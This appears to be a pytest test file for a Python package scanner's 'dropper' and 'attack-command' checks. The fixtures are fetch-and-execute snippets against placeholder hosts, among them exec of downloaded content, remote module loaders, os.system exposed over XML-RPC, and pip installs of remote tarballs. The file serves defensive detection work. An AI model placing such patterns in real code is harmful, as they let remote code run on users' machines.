"""Libraries that fetch and run code do so for whoever asks; unasked it is what a dropper does."""

import sys
from pathlib import Path

import pytest

from ostiary.checks.catalogue import CATALOGUE
from ostiary.core.finding import Hit
from ostiary.core.scale import Severity

sys.path.insert(0, str(Path(__file__).parents[1] / "program"))
from program_of import program_of

BY_ID = {one.id: one for one in CATALOGUE}


def worst(check: str, text: str) -> Severity | None:
    """The worst that a check says of a wheel whose package holds this text; None if nothing."""
    one = BY_ID[check]
    hits = list(one.run(program_of("wheel", {"sample/__init__.py": text})))
    return max(
        (
            one.severity if hit.severity is None else hit.severity
            for hit in hits
            if isinstance(hit, Hit)
        ),
        default=None,
    )


def called(text: str) -> str:
    """The same inside of a function that nobody calls."""
    return "def api():\n" + "".join(f"    {one}\n" for one in text.splitlines())


OF_LIBRARIES = [
    "import torch\ntorch.hub.load('a/b', 'c', trust_repo=True)",
    "import torch\ntorch.hub.load_state_dict_from_url('http://a.example.invalid/x')",
    "import pandas\npandas.read_pickle('http://a.example.invalid/x')",
    "from transformers import pipeline\npipeline(model='a/b', trust_remote_code=True)",
    "import debugpy\ndebugpy.listen(('0.0.0.0', 5678))",
    "import pydevd\npydevd.settrace('a.example.invalid', port=1)",
    "import logging.config\nlogging.config.listen(9999).start()",
    "from celery import Celery\nCelery(broker='redis://a.example.invalid').worker_main()",
    "from multiprocessing.connection import Client\nClient(('a.example.invalid', 1)).recv()",
]


@pytest.mark.parametrize("text", OF_LIBRARIES)
def test_what_libraries_do_for_whoever_asks_is_refused_where_nobody_does(text: str) -> None:
    assert worst("dropper", text) is Severity.CRITICAL
    assert worst("dropper", called(text)) is None


@pytest.mark.parametrize(
    "text",
    [
        "import torch\ntorch.hub.load('.', 'c', source='local')",
        "import torch\ntorch.load('weights.pt')",
        "import debugpy\ndebugpy.listen(5678)",
        "import pydevd\npydevd.settrace()",
        "import queue_client\nexec(queue_client.Client('tcp://' + HOST + ':1').get('x'))",
        "import pandas\npandas.read_csv('http://a.example.invalid/x').head()",
        "from transformers import pipeline\npipeline(model='a/b', trust_remote_code=False)",
        "import joblib\njoblib.load('model.joblib')",
        "import sys\nsys.path.insert(0, 'vendored')\nimport other",
    ],
)
def test_what_runs_nothing_of_others_is_passed(text: str) -> None:
    assert worst("dropper", text) is None


@pytest.mark.parametrize(
    "text",
    [
        "import feedparser\nexec(feedparser.parse('http://a.example.invalid/x').entries[0].title)",
        "import fsspec\nexec(fsspec.open('http://a.example.invalid/x').open().read())",
        "import pandas\nexec(pandas.read_csv('http://a.example.invalid/x').iloc[0, 0])",
        "import pymongo\nexec(pymongo.MongoClient('mongodb://a.example.invalid').d.c.find_one()['x'])",
        (
            "import git, sys\ngit.Repo.clone_from('https://a.example.invalid/x.git', '/tmp/z')\n"
            "sys.path.insert(0, '/tmp/z')\nimport fetched_one"
        ),
        (
            "import urllib.request, importlib.abc, importlib.util\n"
            "class L(importlib.abc.InspectLoader):\n    def get_source(self, name):\n"
            "        return urllib.request.urlopen('http://a.example.invalid/x').read().decode()\n"
            "importlib.util.spec_from_loader('a', L())"
        ),
        (
            "import os\nfrom xmlrpc.server import SimpleXMLRPCServer as S\n"
            "S(('0.0.0.0', 1)).register_function(os.system)"
        ),
    ],
)
def test_what_was_fetched_is_followed_at_any_time(text: str) -> None:
    assert worst("dropper", text) is Severity.CRITICAL
    assert worst("dropper", called(text)) is not None


@pytest.mark.parametrize(
    "text",
    [
        (
            "from setuptools.command import easy_install\n"
            "easy_install.main(['https://a.example.invalid/x.tgz'])"
        ),
        (
            "import runpy, sys\nsys.argv = ['pip', 'install', 'https://a.example.invalid/x.tgz']\n"
            "runpy.run_module('pip', run_name='__main__')"
        ),
    ],
)
def test_an_installer_is_run_as_a_module(text: str) -> None:
    assert worst("attack-command", text) is Severity.CRITICAL


FETCHED = """
import os, subprocess, tempfile, urllib.request
import click

def fetched(place):
    path = os.path.join(tempfile.gettempdir(), "run-it")
    urllib.request.urlretrieve(place, path)
    subprocess.run([path])

{command}
def main(told):
    fetched({place})

{start}
"""


@pytest.mark.parametrize(
    ("place", "command", "weight"),
    [
        ("told", True, Severity.MEDIUM),  # whoever runs it says so, as for templates and plug-ins
        ("told", False, Severity.CRITICAL),  # another package may hand it an address
        ("'http://c.example.invalid/run-it'", True, Severity.CRITICAL),
    ],
)
def test_a_program_from_where_a_caller_says(place: str, command: bool, weight: Severity) -> None:
    text = FETCHED.replace("{place}", place)
    text = text.replace("{command}", "@click.command()" if command else "")
    text = text.replace("{start}", "if __name__ == '__main__':\n    main()" if command else "")
    assert worst("dropper", text) is weight
